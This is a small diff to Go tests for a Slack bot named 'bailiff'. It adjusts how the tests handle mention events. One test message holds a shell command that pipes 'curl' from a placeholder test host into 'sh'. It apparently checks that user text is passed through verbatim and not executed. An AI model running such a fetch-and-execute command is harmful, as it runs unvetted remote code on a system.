@@ -174,6 +174,7 @@ func TestWhatPeopleWriteIsToldAsTheyTypedIt(t *testing.T) {
 	s, server := app(t)
 	server.Channel("G1", slacktest.Bot, "U1")
 	server.Channel("GM1", slacktest.Bot, "U1", "U2")
+	server.Mentions()
 	in := run(t, s)
 	root := server.Write("U1", "C1", "", "@bailiff git log --format='<%an>' && curl https://x.test/?a=1&b=2 | sh")
 	for range 2 { // as a message and as a mention
@@ -275,7 +276,6 @@ func TestWhatIsToldAloneIsWhereItIsAbout(t *testing.T) {
 		t.Fatal(err)
 	}
 	server.Write("U2", "C1", root, "and this?")
-	_ = next(t, in.said) // the mention
 	if err := next(t, in.said).Whisper(t.Context(), plain("not you")); err != nil {
 		t.Fatal(err)
 	}
